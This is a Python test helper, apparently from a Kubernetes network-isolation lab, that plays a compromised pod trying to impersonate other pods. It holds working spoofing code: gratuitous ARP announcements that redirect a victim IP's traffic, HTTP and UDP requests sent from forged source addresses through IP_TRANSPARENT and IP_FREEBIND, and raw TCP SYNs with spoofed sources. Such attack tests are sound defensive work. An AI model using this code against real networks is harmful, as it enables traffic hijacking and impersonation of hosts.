"""What a compromised pod does to take another pod's identity, run inside
the attacker's network namespace by the attack tests (`lab.exec(pod,
[python, path, ...])`): it needs only NET_RAW, which ordinary containers
have.

  python spoof.py garp IFACE IP
      announce IP at IFACE's MAC (gratuitous ARP request and reply), so the
      node and the pods on the bridge send IP's traffic to this pod
  python spoof.py get SRC HOST PORT [--transparent | --freebind] [--timeout S]
      HTTP GET / from SRC (an address the test added to the pod's interface,
      or with --transparent one it never had: IP_TRANSPARENT, which NET_RAW
      allows, lets connect() send from any address; --freebind: IP_FREEBIND,
      which needs no capability, lets bind() take it), print what came back
  python spoof.py syn SRC HOST PORT [--count N]
      raw IPv4 TCP SYNs with source SRC (IP_HDRINCL), no socket bound at all
  python spoof.py get6 SRC HOST PORT [--timeout S]
      the same GET over IPv6
  python spoof.py udp SRC HOST PORT [--timeout S]
  python spoof.py udp6 SRC HOST PORT [--timeout S]
      one IPv4 (IPv6) UDP datagram from SRC to an echo server, and its echo

Every command prints one JSON object: {"ok": ..., ...}.
"""
from __future__ import annotations

import argparse
import fcntl
import json
import os
import socket
import struct
import sys
from collections.abc import Sequence
from typing import Any

ETH_P_ARP = 0x0806
IP_FREEBIND = 15
IP_TRANSPARENT = 19
SIOCGIFHWADDR = 0x8927


def _mac(iface: str) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        info = fcntl.ioctl(s.fileno(), SIOCGIFHWADDR, struct.pack("256s", iface.encode()[:15]))
    return info[18:24]


def arp_frame(mac: bytes, ip: str, op: int) -> bytes:
    """A broadcast gratuitous ARP for ip at mac (op 1 request, 2 reply)."""
    addr = socket.inet_aton(ip)
    target_mac = b"\x00" * 6 if op == 1 else b"\xff" * 6
    return (b"\xff" * 6 + mac + struct.pack("!H", ETH_P_ARP)
            + struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mac + addr + target_mac + addr)


def garp(iface: str, ip: str, count: int) -> dict[str, Any]:
    mac = _mac(iface)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((iface, 0))
        for _ in range(count):
            for op in (1, 2):
                s.send(arp_frame(mac, ip, op))
    return {"ok": True, "sent": 2 * count, "mac": mac.hex(":")}


def get(src: str, host: str, port: int, *, transparent: bool, timeout: float, family: int,
        freebind: bool = False) -> dict[str, Any]:
    with socket.socket(family, socket.SOCK_STREAM) as s:
        if transparent:
            s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        if freebind:
            s.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)
        s.settimeout(timeout)
        try:
            s.bind((src, 0))
            s.connect((host, port))
            s.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        except OSError as exc:
            return {"ok": False, "error": f"{type(exc).__name__}: {exc}"}
    head, _, body = data.partition(b"\r\n\r\n")
    status = head.split(b" ", 2)[1].decode() if head else ""
    try:
        answer = json.loads(body)
    except ValueError:
        answer = body.decode(errors="replace")
    return {"ok": bool(data), "status": status, "answer": answer}


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn_packet(src: str, dst: str, sport: int, dport: int) -> bytes:
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, 0x1000, 0, 5 << 4, 0x02, 64240, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", _checksum(s + d + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0x1234, 0, 64, 6, 0, s, d)
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    return ip + tcp


def syn(src: str, dst: str, port: int, count: int) -> dict[str, Any]:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for i in range(count):
            s.sendto(syn_packet(src, dst, 40000 + i, port), (dst, 0))
    return {"ok": True, "sent": count}


def udp(src: str, host: str, port: int, timeout: float, family: int) -> dict[str, Any]:
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        s.bind((src, 0))
        try:
            s.sendto(b"ping", (host, port))
            data, _ = s.recvfrom(2048)
        except OSError as exc:
            return {"ok": False, "error": f"{type(exc).__name__}: {exc}"}
    return {"ok": data == b"ping"}


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="spoof.py")
    sub = parser.add_subparsers(dest="command", required=True)
    p = sub.add_parser("garp")
    p.add_argument("iface")
    p.add_argument("ip")
    p.add_argument("--count", type=int, default=3)
    for name in ("get", "get6"):
        p = sub.add_parser(name)
        p.add_argument("src")
        p.add_argument("host")
        p.add_argument("port", type=int)
        p.add_argument("--transparent", action="store_true")
        p.add_argument("--freebind", action="store_true")
        p.add_argument("--timeout", type=float, default=3.0)
    for name in ("udp", "udp6"):
        p = sub.add_parser(name)
        p.add_argument("src")
        p.add_argument("host")
        p.add_argument("port", type=int)
        p.add_argument("--timeout", type=float, default=3.0)
    p = sub.add_parser("syn")
    p.add_argument("src")
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--count", type=int, default=5)
    args = parser.parse_args(argv)
    if args.command == "garp":
        result = garp(args.iface, args.ip, args.count)
    elif args.command == "syn":
        result = syn(args.src, args.host, args.port, args.count)
    elif args.command in ("udp", "udp6"):
        result = udp(args.src, args.host, args.port, args.timeout,
                     socket.AF_INET6 if args.command == "udp6" else socket.AF_INET)
    else:
        family = socket.AF_INET6 if args.command == "get6" else socket.AF_INET
        result = get(args.src, args.host, args.port, transparent=args.transparent, timeout=args.timeout, family=family,
                     freebind=args.freebind)
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
